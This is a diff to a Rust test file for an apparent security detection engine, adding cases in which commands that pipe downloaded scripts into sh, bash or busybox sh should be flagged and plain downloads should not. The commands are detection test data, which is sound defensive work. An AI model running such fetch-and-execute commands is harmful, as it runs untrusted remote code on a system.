@@ -561,8 +561,13 @@ fn cases() -> Vec<(&'static str, Vec<NodeEvent>, Vec<NodeEvent>)> {
                 shell("wget -qO- https://example.com/i | sh"),
                 shell("curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && ./a"),
                 shell("wget -O /tmp/i.sh https://example.com/i.sh; sh /tmp/i.sh"),
+                shell("curl -sSf https://sh.example.com | sh -s -- -y"),
+                shell("wget -qO- http://203.0.113.5/a | busybox sh"),
+                shell("curl -s http://203.0.113.5/b | bash -o pipefail"),
             ],
             vec![
+                shell("curl -s https://example.com/v.json | python3 -c 'import json,sys; json.load(sys.stdin)'"),
+                shell("curl -s https://example.com/f | bash -c 'cat > /tmp/f'"),
                 shell("curl -o /tmp/a.tar.gz https://example.com/a.tar.gz"),
                 shell("curl -s https://example.com/status | grep ok"),
                 exec("curl -s https://example.com/x.sh"),
@@ -676,7 +681,7 @@ fn lists_in_a_directory_replace_the_shipped_ones_and_reload() {
 
 /// What a rule declares it reads is what it reacts to: each case, turned into every kind of node event, fires
 /// only as a kind the rule declares (so routing events by declared kind loses nothing), and every declared kind
-/// has a case that fires (so the declaration is not wider than the rule; a type with a learned half declares the
+/// has a case that fires (so the declaration is not wider than the rule; a type with a learned or windowed half declares the
 /// kinds of both halves, and its half's kinds are tested with the baseline).
 #[test]
 fn every_rule_reads_exactly_the_kinds_it_declares() {
@@ -698,7 +703,7 @@ fn every_rule_reads_exactly_the_kinds_it_declares() {
                 assert!(rule(&NodeView::new(&other), &lists).is_none(), "{id} reacts to {kind:?}, undeclared");
             }
         }
-        if meta.learned.is_none() {
+        if meta.learned.is_none() && meta.windowed.is_none() {
             for kind in &declared {
                 assert!(fire.iter().any(|event| event.kind == *kind), "{id} declares {kind:?} but no case fires on it");
             }
